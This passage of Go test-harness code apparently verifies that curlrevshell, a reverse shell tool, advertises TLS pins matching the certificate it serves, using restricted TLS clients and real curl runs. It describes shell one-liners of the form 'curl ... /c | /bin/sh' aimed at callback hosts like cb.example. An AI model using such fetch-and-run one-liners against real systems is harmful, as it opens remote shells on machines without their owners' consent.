curl-advertised-pin-rejected:<restriction>), and for the first of the two with one bit of the pin flipped it must exit 90; a restriction is only used for a key type when this machine's curl, so restricted, connected with the right pin to the harness's plain listener of that key type and exited 90 there with the altered pin, else it is counted as not explored (client_caps_curl_option_not_usable_here / _not_explored) and never judged. MANY ADDRESSES x THE PROGRAM'S OTHER OPTIONS (many.go; engines binary-many: the real binary on a pty, and inproc-many: hsrv.New in-process; a handful of cases each, run next to the other engines): 17 ... 200 -callback-address values per run (bands 17-19 | 150-200 | 20-30 | 80-149 | 31-50 | 51-79 in turn over the index, exactly 17 and exactly 200 once per twelve cases) of ten kinds in turn - short names, names with a port, IPv4 without and with a port, bare IPv6 literals, bracketed IPv6 literals with a port, long names (64-200 characters, labels up to 63) without and with a port, mixed-case names, 10.x addresses - x listen form {127.0.0.1:0, 0.0.0.0:0, [::1]:0, [::]:0, 127.0.0.1, :0} x -ipv6-one-liners x -serve-files-from {directory, single file, off} x certificate cache {off, explicit file, default path}; binary-many also x the other documented options in a fixed matrix of 16 cells by index (none; -one-shell, -no-timestamps, -log, -ctrl-i <file>, -callback-template <custom> each alone; every pair of them; quick runs the first six cells, which use every option), the log file given by -log or by CURLREVSHELL_LOG, every flag spelled -flag value | -flag=value | --flag value | --flag=value in turn, the flags in a drawn order. The end of the start-up text and of the help re-printed after a fake shell died is found without a clock: the help is sent before the listener serves, so the harness fetches /c under a host name of its own and takes everything before the notice about that request (inproc-many: a marker line through the operator channel). Oracles: every sha256//... shown is the served pin (as everywhere), the port rule (as everywhere), and COMPLETENESS per block (start-up shell block, file block when files are served, re-printed block): for every address the user gave, for the listen address or - on a wildcard listener - for every address of this machine's non-loopback interfaces that was there before the start and still is (IPv6 ones only with -ipv6-one-liners) there must be a one-liner that is whole: the served pin, that host with the user's port or else the bound port, and for shell one-liners the end '/c | /bin/sh' (key oneliner-missing:<site>); real curl (advertised pin connects, altered pin exits 90, two client restrictions) on the first, the last, a drawn one and the listener's own shell one-liner and on one file one-liner (hosts of up to 100 characters); the script fetched for the marker is judged like every script; with -one-shell nothing is re-printed (the listener is closed) and whatever the program prints until it ends must carry no other fingerprint. distinct = configuration signature + served pin; all non-trivial (each has at least one advertised fingerprint compared with a handshake)"
	r.Assumptions = []string{
		"callback host names (cb.example ...) do not resolve here: their one-liners are exercised with curl --connect-to, which checks the same pin against the same listener",
		"link-local IPv6 one-liners carry no zone and cannot be connected to directly; same treatment",
		"a listen form the program refuses at start-up is counted and skipped (not this property's business)",
		"exit status of the binary after Ctrl+D other than 0 is reported as inconclusive (C20 owns it)",
		"a one-liner printed without a port (https://host/...) names the default https port 443: on a listener bound to 443 it is accepted like https://host:443/...",
		"after the cache file changed under a running listener the listener may keep its key or adopt the new one; only 'advertised == presented' is demanded (for what was printed before the change too: the operator still uses those lines)",
		"a certificate cache whose cert section holds the leaf followed by its issuers (a 'fullchain' as a CA hands it out), with any of the key types crypto/tls serves, with text between the PEM blocks that PEM readers skip, is a legitimate cache: the statement quantifies over every cached key pair and does not say who wrote the cache; whether the program accepts such a file is not judged, only what it advertises once it listens",
		"port 443 on the loopback addresses is free or only briefly taken by other runs of this check; if it cannot be bound at all the port-443 floors make the run inconclusive",
		"'curl --pinnedpubkey with the advertised value connects' is said of curl as the targets have it, not of one build: a client that offers less than a current curl/OpenSSL or Go does (only NIST curves, only TLS 1.2 or only TLS 1.3, a single AEAD cipher suite) must still connect with the advertised pin, as far as crypto/tls itself serves such a client: what crypto/tls serves is measured on a plain tls.Listen of the harness with the same key type, never assumed (TLS 1.0/1.1, non-ECDHE and CBC suites are not tried at all)",
		"a -callback-address is documented as 'Additional callback address or domain, for one-liner printing (may be repeated)': each one given is owed a one-liner in every block of one-liners the program prints (shell, files, re-printed), however many there are; the statement's 'every fingerprint the program shows' includes one that is shown cut short; which addresses a wildcard listener is owed one-liners for is taken from this machine's interfaces (non-loopback, present before and after the run), as README/doc describe; -one-shell, -no-timestamps, -log, -ctrl-i and -callback-template do not change what one-liners are owed at start-up (with -one-shell none is owed after the shell, the listener being closed)",
		"which restrictions this machine's curl/OpenSSL can be given is measured on the same plain listener; an option it cannot do (or that cannot work with the served key type, like a TLS 1.2 client whose only group is not the curve of the ECDSA certificate) is not explored and reported so (coverage keys client_caps_curl_options_not_explored_on_this_machine, client_caps_*_not_usable_here)",
	}
	fx := makeFixtures(r.Work)
	defer caps.close()
	// many addresses x the program's other options: few, cheap cases next to the other engines
	many := runMany(r, fx)

	if r.WantEngine(engBin) {
		bin, err := crs.Build(r.Work, "")
		if err != nil {
			r.Inconclusive("cannot build the binary: " + err.Error())
		} else {
			n := r.N(16, 200)
			prng := r.Rng("plan", 0)
			offF, offC := prng.IntN(len(listenForms)), prng.IntN(len(cacheForms))
			mon.Parallel(n, 8, func(i int) {
				if !r.Want(engBin, i) {
					return
				}
				binCaseRun(r, engBin, bin, fx, i, genBinCase(r, i, offF, offC))
			})
			r.Logf("binary engine done: %d runs", r.Counter("binary_runs"))
		}
	}
	if r.WantEngine(engBin443) {
		bin, err := crs.Build(r.Work, "")
		if err != nil {
			r.Inconclusive("cannot build the binary: " + err.Error())
		} else {
			for i := 0; i < r.N(2, 8); i++ {
				if r.Want(engBin443, i) {
					binCaseRun(r, engBin443, bin, fx, i, genBin443Case(r, i))
				}
			}
			r.Logf("binary-443 engine done: %d listeners on port 443", r.Counter("binary_listeners_on_port_443"))
		}
	}
	if r.WantEngine(engIn) {
		n := r.N(60, 500)
		mon.Parallel(n, 8, func(i int) {
			if !r.Want(engIn, i) {
				return
			}
			inCaseRun(r, engIn, fx, i, genInCase(r, i))
		})
	}
	if r.WantEngine(engInChain) {
		mon.Parallel(r.N(28, 196), 8, func(i int) {
			if r.Want(engInChain, i) {
				inCaseRun(r, engInChain, fx, i, genInChainCase(r, i))
			}
		})
	}
	if r.WantEngine(engBinChain) {
		bin, err := crs.Build(r.Work, "")
		if err != nil {
			r.Inconclusive("cannot build the binary: " + err.Error())
		} else {
			mon.Parallel(r.N(8, 56), 8, func(i int) {
				if r.Want(engBinChain, i) {
					binCaseRun(r, engBinChain, bin, fx, i, genBinChainCase(r, i))
				}
			})
			r.Logf("binary-chain engine done: %d starts on a chain cache", r.Counter("chain_cache_starts:"+engBinChain))
		}
	}
	if r.WantEngine(engIn443) {
		// port 443 is used by one listener at a time (mu443); two workers overlap the rest
		mon.Parallel(r.N(12, 64), 2, func(i int) {
			if r.Want(engIn443, i) {
				inCaseRun(r, engIn443, fx, i, gen443Case(r, i))
			}
		})
	}
	if r.WantEngine(engRace) {
		mon.Parallel(r.N(6, 40), 4, func(i int) {
			if r.Want(engRace, i) {
				raceCaseRun(r, fx, i)
			}
		})
	}

	many.Wait()

	q := func(a, b int64) int64 {
		if r.Thorough() {
			return b
		}
		return a
	}
	manyFloors(r, q)
	r.Floor("binary_runs", q(16, 200))
	r.Floor("runs_with_a_callback_address_before_the_listen_address", q(5, 60))
	r.Floor("inproc_servers", q(60, 500))
	// the cache changes under a running listener
	r.Floor("cache_changed_under_listener_cases", q(40, 350))
	r.Floor("handshakes_with_sni_after_change", q(80, 700))
	r.Floor("handshakes_without_sni_after_change", q(40, 350))
	r.Floor("handshakes_with_sni_at_start", q(60, 500))
	r.Floor("fingerprints_compared:"+classChanged, q(300, 3000))
	r.Floor("restarts_after_cache_replacement", q(6, 100))
	r.Floor("race_pairs_started", q(6, 40))
	r.Floor("race_pairs_with_different_keys", q(2, 12))
	// the listener on the default https port
	if r.Counter("listeners_on_port_443") == 0 && r.Counter("port_443_unavailable") > 0 {
		// nothing in this environment may listen on port 443 (not root, or
		// all candidate addresses are taken for the whole run): the
		// dimension is reported as not explored instead of failing the run
		r.Assumptions = append(r.Assumptions, "port 443 could not be bound on any candidate address in this environment: the listener-on-the-default-https-port cases were NOT explored in this run")
		r.Extra("port_443_dimension_explored", false)
	} else {
		r.Floor("listeners_on_port_443", q(8, 40))
		r.Floor("oneliners_with_user_port_on_443_listener", q(20, 100))
		r.Floor("oneliners_with_user_port_other_than_443_on_443_listener", q(20, 100))
		r.Floor("oneliners_naming_bound_port_on_443_listener", q(20, 100))
	}
	// caches the program did not write itself
	chainFloors(r, q)
	// clients restricted in what they offer
	capFloors(r, q)
	r.Floor("handshakes", q(150, 1500))
	r.Floor("bound_port_from_proc", q(16, 200))
	r.Floor("curl_pinned_ok", q(20, 300))
	r.Floor("curl_altered_rejected", q(20, 300))
	r.Floor("oneliners_checked", q(150, 1500))
	r.Floor("oneliners_with_non_ascii_host_checked", q(10, 100))
	r.Floor("scripts_checked", q(100, 1000))
	r.Floor("reprints_checked", q(15, 200))
	r.Floor("restart_sequences", q(6, 80))
	r.Floor("real_shell_via_printed_oneliner", q(2, 40))
	r.Floor("fingerprints_compared:"+siteShell, q(70, 700))
	r.Floor("fingerprints_compared:"+siteFile, q(20, 200))
	r.Floor("fingerprints_compared:"+siteReprint, q(20, 200))
	r.Floor("fingerprints_compared:"+siteI, q(50, 500))
	r.Floor("fingerprints_compared:"+siteO, q(50, 500))
	r.Floor("fingerprints_compared:"+siteCustom, q(20, 200))
}

// writeDatedCache writes a certificate cache whose certificate is either
// expired or not yet valid and returns the pin of its key.
func writeDatedCache(path string, expired bool) (string, error) {
	if expired {
		return writeCache(path, "expired")
	}
	return writeCache(path, "notyet")
}

// writeCache writes a certificate cache with a key pair made by the harness
// and returns the pin of its key.  kind: "valid" (valid now, for ten years),
// "expired", "notyet".
func writeCache(path, kind string) (string, error) {
	priv, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		return "", err
	}
	nb, na := time.Now().Add(-time.Minute), time.Now().AddDate(10, 0, 0)
	switch kind {
	case "expired":
		nb, na = time.Now().AddDate(-3, 0, 0), time.Now().AddDate(-1, 0, 0)
	case "notyet":
		nb, na = time.Now().AddDate(1, 0, 0), time.Now().AddDate(5, 0, 0)
	}
	tmpl := x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: "sstls"}, NotBefore: nb, NotAfter: na,
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(crand.Reader, &tmpl, &tmpl, &priv.PublicKey, priv)
	if err != nil {
		return "", err
	}
	kb, err := x509.MarshalPKCS8PrivateKey(priv)
	if err != nil {
		return "", err
	}
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kb})
	if err := sstls.SaveCertificate(path, certPEM, keyPEM); err != nil {
		return "", err
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		return "", err
	}
	return hk.Pin(leaf), nil
}

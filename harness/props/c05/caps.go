package c05

// CLIENT TLS CAPABILITIES.  "curl --pinnedpubkey with the advertised value
// connects" is said of curl, not of one particular curl: the targets the
// one-liners are pasted into run old OpenSSLs, FIPS builds, TLS-1.2-only
// stacks.  So the handshakes and the real-curl runs are repeated for clients
// restricted in what they offer: key-exchange groups (P-256 only, P-384 only,
// P-521 only, X25519 only, all NIST curves), protocol versions (at most TLS
// 1.2, at least TLS 1.3), one single TLS 1.2 cipher suite (ECDHE-ECDSA or
// ECDHE-RSA, as fits the served key, with AES-128-GCM, AES-256-GCM, CHACHA20),
// and combinations.
//
// What such a client can be expected to do at all is not decided by a table
// but measured: for every key type met, the harness runs a plain crypto/tls
// listener of its own (tls.Config with nothing but a certificate of that key
// type) and tries every restricted Go client and every restricted curl command
// line against it first.  Only what works there is demanded of the listener
// under test; anything else (an option this curl/OpenSSL does not have, a
// combination crypto/tls does not serve) is counted as not explored.

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- restricted Go clients ----------------------------------------------------------------

type capProfile struct {
	Name   string        `json:"name"`
	Curves []tls.CurveID `json:"curve_preferences,omitempty"`
	Min    uint16        `json:"min_version,omitempty"`
	Max    uint16        `json:"max_version,omitempty"`
	// one TLS 1.2 cipher suite (implies Max = TLS 1.2): ECDHE-ECDSA-... for
	// ECDSA and Ed25519 keys, ECDHE-RSA-... for RSA keys
	Suite string `json:"single_tls12_suite,omitempty"`
	// the client's only group is P-384 or P-521: a key exchange that takes a
	// race-instrumented crypto/tls some 0.1-0.2 s; every listener gets ONE of
	// these profiles (in turn), all the others get every profile
	Slow bool `json:"-"`
}

var (
	cP256  = []tls.CurveID{tls.CurveP256}
	cP384  = []tls.CurveID{tls.CurveP384}
	cP521  = []tls.CurveID{tls.CurveP521}
	cX     = []tls.CurveID{tls.X25519}
	cNIST  = []tls.CurveID{tls.CurveP256, tls.CurveP384, tls.CurveP521}
	vTLS12 = uint16(tls.VersionTLS12)
	vTLS13 = uint16(tls.VersionTLS13)
)

var capProfiles = []capProfile{
	{Name: "curves=P-256", Curves: cP256},
	{Name: "curves=P-384", Curves: cP384, Slow: true},
	{Name: "curves=P-521", Curves: cP521, Slow: true},
	{Name: "curves=X25519", Curves: cX},
	{Name: "curves=P-256,P-384,P-521", Curves: cNIST},
	{Name: "max=TLS1.2", Max: vTLS12},
	{Name: "min=TLS1.3", Min: vTLS13},
	{Name: "max=TLS1.2+curves=P-256", Max: vTLS12, Curves: cP256},
	{Name: "max=TLS1.2+curves=P-384", Max: vTLS12, Curves: cP384, Slow: true},
	{Name: "max=TLS1.2+curves=P-521", Max: vTLS12, Curves: cP521, Slow: true},
	{Name: "max=TLS1.2+curves=X25519", Max: vTLS12, Curves: cX},
	{Name: "max=TLS1.2+curves=P-256,P-384,P-521", Max: vTLS12, Curves: cNIST},
	{Name: "min=TLS1.3+curves=P-256", Min: vTLS13, Curves: cP256},
	{Name: "min=TLS1.3+curves=P-384", Min: vTLS13, Curves: cP384, Slow: true},
	{Name: "tls12-one-suite=AES128-GCM-SHA256", Suite: "aes128gcm"},
	{Name: "tls12-one-suite=AES256-GCM-SHA384", Suite: "aes256gcm"},
	{Name: "tls12-one-suite=CHACHA20-POLY1305", Suite: "chacha20"},
	{Name: "tls12-one-suite=AES128-GCM-SHA256+curves=P-256", Suite: "aes128gcm", Curves: cP256},
	{Name: "tls12-one-suite=CHACHA20-POLY1305+curves=P-384", Suite: "chacha20", Curves: cP384, Slow: true},
}

func suiteID(auth, s string) uint16 {
	if auth == "rsa" {
		switch s {
		case "aes128gcm":
			return tls.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256
		case "aes256gcm":
			return tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384
		}
		return tls.TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305_SHA256
	}
	switch s {
	case "aes128gcm":
		return tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256
	case "aes256gcm":
		return tls.TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384
	}
	return tls.TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256
}

// the OpenSSL names of the same suites
func suiteOpenSSL(auth, s string) string {
	a := "ECDHE-ECDSA-"
	if auth == "rsa" {
		a = "ECDHE-RSA-"
	}
	switch s {
	case "aes128gcm":
		return a + "AES128-GCM-SHA256"
	case "aes256gcm":
		return a + "AES256-GCM-SHA384"
	}
	return a + "CHACHA20-POLY1305"
}

// leafKeyType names the key of a served leaf (the names of chainKeyTypes) and
// the TLS 1.2 authentication family it goes with.
func leafKeyType(c *x509.Certificate) (kt, auth string) {
	switch k := c.PublicKey.(type) {
	case *ecdsa.PublicKey:
		return "ecdsa-p" + strings.TrimPrefix(k.Curve.Params().Name, "P-"), "ecdsa"
	case *rsa.PublicKey:
		return fmt.Sprintf("rsa-%d", k.N.BitLen()), "rsa"
	case ed25519.PublicKey:
		return "ed25519", "ecdsa"
	}
	return fmt.Sprintf("%T", c.PublicKey), ""
}

// capAttempt is one handshake of a restricted client.
type capAttempt struct {
	Pin     string `json:"pin_of_presented_leaf,omitempty"`
	Version uint16 `json:"negotiated_version,omitempty"`
	Suite   uint16 `json:"negotiated_suite,omitempty"`
	Err     string `json:"error,omitempty"`
	// the failure is the network's or the clock's (connect failed, deadline
	// passed), not an answer of the TLS peer
	Infra bool `json:"infrastructure,omitempty"`
}

const capBound = 20 * time.Second

// capDial makes one handshake as the restricted client p and closes the
// connection so that the server closes first (close_notify, then wait for the
// server's end): no TIME-WAIT socket is left on an ephemeral port of this side.
func capDial(addr, sni string, p capProfile, auth string) capAttempt {
	d := &net.Dialer{Timeout: capBound}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return capAttempt{Err: err.Error(), Infra: true}
	}
	defer raw.Close()
	cfg := &tls.Config{InsecureSkipVerify: true, ServerName: sni, CurvePreferences: p.Curves, MinVersion: p.Min, MaxVersion: p.Max}
	if p.Suite != "" {
		cfg.MaxVersion = tls.VersionTLS12
		cfg.CipherSuites = []uint16{suiteID(auth, p.Suite)}
	}
	tc := tls.Client(raw, cfg)
	tc.SetDeadline(time.Now().Add(capBound))
	if err := tc.Handshake(); err != nil {
		var ne net.Error
		infra := errors.As(err, &ne) && ne.Timeout()
		return capAttempt{Err: err.Error(), Infra: infra}
	}
	cs := tc.ConnectionState()
	a := capAttempt{Version: cs.Version, Suite: cs.CipherSuite}
	if len(cs.PeerCertificates) == 0 {
		a.Err = "no certificate presented"
	} else {
		a.Pin = hk.Pin(cs.PeerCertificates[0])
	}
	// the harness's own sanity: the client really was restricted
	switch {
	case p.Suite != "" && cs.CipherSuite != suiteID(auth, p.Suite),
		cfg.MaxVersion != 0 && cs.Version > cfg.MaxVersion,
		cfg.MinVersion != 0 && cs.Version < cfg.MinVersion:
		a.Err = fmt.Sprintf("harness: negotiated version %#x suite %#x outside of what the client offered", cs.Version, cs.CipherSuite)
		a.Infra = true
	}
	tc.CloseWrite()
	tc.SetReadDeadline(time.Now().Add(3 * time.Second))
	io.Copy(io.Discard, tc)
	return a
}

// capTry: up to 3 attempts; ok as soon as one handshake completes.
func capTry(addr, sni string, p capProfile, auth string) (ok capAttempt, done bool, failed []capAttempt) {
	for try := 0; try < 3; try++ {
		a := capDial(addr, sni, p, auth)
		if a.Err == "" {
			return a, true, failed
		}
		failed = append(failed, a)
		if try < 2 {
			time.Sleep(time.Duration(50*(try+1)) * time.Millisecond)
		}
	}
	return capAttempt{}, false, failed
}

// ---- restricted real curl -----------------------------------------------------------------

// capCurlOpt is one way to restrict real curl.
type capCurlOpt struct {
	Name string
	Args func(auth string) []string
}

func fixedArgs(a ...string) func(string) []string { return func(string) []string { return a } }

// 17 options (a prime: any stride walks through all of them).
var capCurlOpts = []capCurlOpt{
	{"curves=prime256v1", fixedArgs("--curves", "prime256v1")},
	{"curves=secp384r1", fixedArgs("--curves", "secp384r1")},
	{"curves=secp521r1", fixedArgs("--curves", "secp521r1")},
	{"curves=X25519", fixedArgs("--curves", "X25519")},
	{"curves=prime256v1:secp384r1:secp521r1", fixedArgs("--curves", "prime256v1:secp384r1:secp521r1")},
	{"tls-max=1.2", fixedArgs("--tls-max", "1.2")},
	{"tlsv1.3", fixedArgs("--tlsv1.3")},
	{"tls12-one-suite=AES128-GCM-SHA256", func(a string) []string {
		return []string{"--tls-max", "1.2", "--ciphers", suiteOpenSSL(a, "aes128gcm")}
	}},
	{"tls12-one-suite=AES256-GCM-SHA384", func(a string) []string {
		return []string{"--tls-max", "1.2", "--ciphers", suiteOpenSSL(a, "aes256gcm")}
	}},
	{"tls12-one-suite=CHACHA20-POLY1305", func(a string) []string { return []string{"--tls-max", "1.2", "--ciphers", suiteOpenSSL(a, "chacha20")} }},
	{"tls-max=1.2+curves=prime256v1", fixedArgs("--tls-max", "1.2", "--curves", "prime256v1")},
	{"tlsv1.3+curves=secp384r1", fixedArgs("--tlsv1.3", "--curves", "secp384r1")},
	{"tls13-one-suite=TLS_AES_128_GCM_SHA256", fixedArgs("--tlsv1.3", "--tls13-ciphers", "TLS_AES_128_GCM_SHA256")},
	{"tls13-one-suite=TLS_AES_256_GCM_SHA384", fixedArgs("--tlsv1.3", "--tls13-ciphers", "TLS_AES_256_GCM_SHA384")},
	{"tls13-one-suite=TLS_CHACHA20_POLY1305_SHA256", fixedArgs("--tlsv1.3", "--tls13-ciphers", "TLS_CHACHA20_POLY1305_SHA256")},
	{"tls12-one-suite=AES128-GCM-SHA256+curves=prime256v1", func(a string) []string {
		return []string{"--tls-max", "1.2", "--ciphers", suiteOpenSSL(a, "aes128gcm"), "--curves", "prime256v1"}
	}},
	{"tls-max=1.2+curves=secp384r1", fixedArgs("--tls-max", "1.2", "--curves", "secp384r1")},
}

// curlTry: the command up to 3 times until it gives one of the two answers
// that are about the pin.
func curlTry(work string, ol oneLiner, pin, connectTo string, extra []string) curlResult {
	var res curlResult
	for try := 0; try < 3; try++ {
		res = curlForX(work, ol, pin, connectTo, extra)
		if res.Exit == 0 || res.Exit == 90 {
			break
		}
		time.Sleep(300 * time.Millisecond)
	}
	return res
}

// ---- the harness's own plain listeners ----------------------------------------------------

// capRef is a plain crypto/tls listener of the harness with one key type, and
// what the restricted clients were seen to do against it.
type capRef struct {
	once   sync.Once
	kt     string
	auth   string
	err    error
	l      net.Listener
	srv    *http.Server
	addr   string
	pin    string
	goOK   map[string]bool
	curlOK map[string]bool
}

type capWorld struct {
	mu   sync.Mutex
	refs map[string]*capRef
}

var caps = &capWorld{refs: map[string]*capRef{}}

func refKey(kt string) (any, any, error) {
	switch {
	case kt == "ecdsa-p521":
		k, err := ecdsa.GenerateKey(elliptic.P521(), crand.Reader)
		if err != nil {
			return nil, nil, err
		}
		return k, &k.PublicKey, nil
	case strings.HasPrefix(kt, "rsa-"):
		bits := 0
		fmt.Sscanf(kt, "rsa-%d", &bits)
		if bits < 1024 || bits > 4096 {
			return nil, nil, fmt.Errorf("no reference for %s", kt)
		}
		k, err := rsa.GenerateKey(crand.Reader, bits)
		if err != nil {
			return nil, nil, err
		}
		return k, &k.PublicKey, nil
	}
	k, err := genKey(kt)
	if err != nil {
		return nil, nil, err
	}
	return k, k.Public(), nil
}

// ref returns the plain listener for a key type, started and probed on first use.
func (w *capWorld) ref(r *mon.Run, kt, auth string) *capRef {
	w.mu.Lock()
	cr := w.refs[kt]
	if cr == nil {
		cr = &capRef{kt: kt, auth: auth, goOK: map[string]bool{}, curlOK: map[string]bool{}}
		w.refs[kt] = cr
	}
	w.mu.Unlock()
	cr.once.Do(func() { cr.start(r) })
	return cr
}

func (w *capWorld) close() {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, cr := range w.refs {
		if cr.srv != nil {
			cr.srv.Close()
		}
	}
	w.refs = map[string]*capRef{}
}

func (cr *capRef) start(r *mon.Run) {
	fail := func(err error) {
		cr.err = err
		r.Count("client_caps_no_plain_listener_for_key_type:"+cr.kt, 1)
		r.Logf("client capabilities: no plain listener with a %s key: %v", cr.kt, err)
	}
	if cr.auth == "" {
		fail(fmt.Errorf("key type not known to the harness"))
		return
	}
	priv, pub, err := refKey(cr.kt)
	if err != nil {
		fail(err)
		return
	}
	sn, _ := crand.Int(crand.Reader, new(big.Int).Lsh(big.NewInt(1), 100))
	tmpl := x509.Certificate{SerialNumber: sn, Subject: pkix.Name{CommonName: "sstls"}, NotBefore: time.Now().Add(-time.Minute), NotAfter: time.Now().AddDate(10, 0, 0),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(crand.Reader, &tmpl, &tmpl, pub, priv)
	if err != nil {
		fail(err)
		return
	}
	leaf, err := x509.ParseCertificate(der)
	if err != nil {
		fail(err)
		return
	}
	cr.pin = hk.Pin(leaf)
	// nothing but the certificate: what crypto/tls does by itself
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: priv, Leaf: leaf}}})
	if err != nil {
		fail(err)
		return
	}
	cr.l, cr.addr = l, l.Addr().String()
	cr.srv = &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) { io.WriteString(w, "plain listener of the harness\n") })}
	go cr.srv.Serve(l)
	r.Count("client_caps_plain_listeners_started", 1)
	r.Count("client_caps_plain_listener_key_type:"+cr.kt, 1)

	// restricted Go clients
	for _, p := range capProfiles {
		if a, ok, failed := capTry(cr.addr, "", p, cr.auth); ok && a.Pin == cr.pin {
			cr.goOK[p.Name] = true
			r.Count("client_caps_go_client_accepted_by_plain_listener:"+p.Name, 1)
		} else {
			r.Count("client_caps_go_client_not_accepted_by_plain_listener:"+p.Name, 1)
			r.Count("client_caps_go_client_not_accepted_by_plain_listener:"+p.Name+":"+cr.kt, 1)
			r.Logf("client capabilities: Go client %s against a plain crypto/tls listener with a %s key: %+v (not judged for this key type)", p.Name, cr.kt, failed)
		}
	}

	// restricted real curl
	ol := oneLiner{Text: fmt.Sprintf("curl -sk --pinnedpubkey sha256//%s https://%s/", cr.pin, cr.addr), FP: cr.pin, Addr: cr.addr, Path: "/"}
	alt, _ := alterPin(cr.pin, rand.New(rand.NewPCG(1, 2)))
	if res := curlTry(r.Work, ol, "", "", nil); res.Exit != 0 {
		r.Count("client_caps_curl_unusable_on_plain_listener:"+cr.kt, 1)
		r.Logf("client capabilities: plain curl against a plain crypto/tls listener with a %s key exits %d (%s): no curl option is judged for this key type", cr.kt, res.Exit, res.Stderr)
		return
	}
	for _, o := range capCurlOpts {
		extra := o.Args(cr.auth)
		good := curlTry(r.Work, ol, "", "", extra)
		bad := curlResult{Exit: -1}
		if good.Exit == 0 {
			bad = curlTry(r.Work, ol, alt, "", extra)
		}
		if good.Exit == 0 && bad.Exit == 90 {
			cr.curlOK[o.Name] = true
			r.Count("client_caps_curl_option_usable_here:"+o.Name, 1)
			r.Count("client_caps_curl_option_usable_here:"+o.Name+":"+cr.kt, 1)
		} else {
			r.Count("client_caps_curl_option_not_usable_here:"+o.Name, 1)
			r.Count("client_caps_curl_option_not_usable_here:"+o.Name+":"+cr.kt, 1)
			r.Logf("client capabilities: curl %v against a plain crypto/tls listener with a %s key: exit %d (%s), with an altered pin exit %d: not judged for this key type", extra, cr.kt, good.Exit, good.Stderr, bad.Exit)
		}
	}
}

// ---- judging --------------------------------------------------------------------------------

// clientCaps repeats the handshake with every restricted Go client.  The
// presented leaf goes into j.served like that of every other handshake (so a
// listener that shows another key to such a client is caught by the
// fingerprint comparison); a handshake that cannot be completed is a violation
// when three attempts in a row were answered by the TLS peer with a refusal
// while a client with Go's defaults gets through at that moment, and the plain
// listener of the harness with the same key type took the same client.
func (j *judge) clientCaps(target string) {
	if j.leaf == nil {
		return
	}
	kt, auth := leafKeyType(j.leaf)
	cr := caps.ref(j.r, kt, auth)
	j.r.Count("client_caps_listeners_judged", 1)
	j.r.Count("client_caps_listeners_judged_key_type:"+kt, 1)
	nSlow := 0
	for pi, p := range capProfiles {
		if p.Slow {
			nSlow++
			if (nSlow - 1) != (j.idx+j.capK)%capSlowProfiles {
				continue
			}
		}
		if !cr.goOK[p.Name] {
			j.r.Count("client_caps_go_profile_not_explored:"+p.Name, 1)
			continue
		}
		sni := ""
		if (pi+j.idx)%2 == 1 {
			sni = "caps.example"
		}
		a, ok, failed := capTry(target, sni, p, auth)
		if ok {
			j.r.Count("client_caps_go_handshakes_ok", 1)
			j.r.Count("client_caps_go_handshake_ok:"+p.Name, 1)
			j.r.Count(fmt.Sprintf("client_caps_go_negotiated_version:%#x", a.Version), 1)
			j.r.Count("handshakes", 1)
			known := false
			for _, q := range j.served {
				known = known || q == a.Pin
			}
			if !known {
				j.served = append(j.served, a.Pin)
			}
			continue
		}
		infra := false
		for _, f := range failed {
			infra = infra || f.Infra
		}
		// the same listener at the same moment, client with Go's defaults
		ctl, cerr := hk.Dial(target, sni)
		if cerr == nil {
			ctl.Close()
		}
		if infra || cerr != nil {
			j.r.Count("client_caps_go_handshake_undecided", 1)
			j.r.Inconclusive(fmt.Sprintf("%s %d: restricted client %s could not be judged: %+v; control handshake: %v", j.eng, j.idx, p.Name, failed, cerr))
			continue
		}
		j.r.Violate(j.eng, j.idx, "restricted-client-cannot-connect:"+p.Name,
			fmt.Sprintf("a crypto/tls client that offers only %s cannot complete a handshake with the listener at %s (key type %s): %s (3 attempts), while a client with Go's defaults connects at the same moment and a plain crypto/tls listener with a %s key takes the same restricted client: a client with these capabilities cannot connect whatever pin it was given, the advertised one included", p.Name, target, kt, failed[len(failed)-1].Err, kt),
			j.witness(map[string]any{"client": p, "sni": sni, "attempts": failed, "served_key_type": kt}))
	}
}

// curlCaps runs one printed one-liner again with real curl restricted by two
// of the options (which two: rotation over the case, the run and the position
// of the one-liner), with the advertised pin (must connect) and, for the first
// of the two, with an altered pin (must exit 90).  Called only after the
// unrestricted command gave both right answers.
func (j *judge) curlCaps(work string, ol oneLiner, connectTo string, n int, rng *rand.Rand) []map[string]any {
	if j.leaf == nil {
		return nil
	}
	kt, auth := leafKeyType(j.leaf)
	cr := caps.ref(j.r, kt, auth)
	var log []map[string]any
	for m := 0; m < 2; m++ {
		o := capCurlOpts[(j.capRot+2*n+m)%len(capCurlOpts)]
		if !cr.curlOK[o.Name] {
			j.r.Count("client_caps_curl_option_not_explored:"+o.Name, 1)
			continue
		}
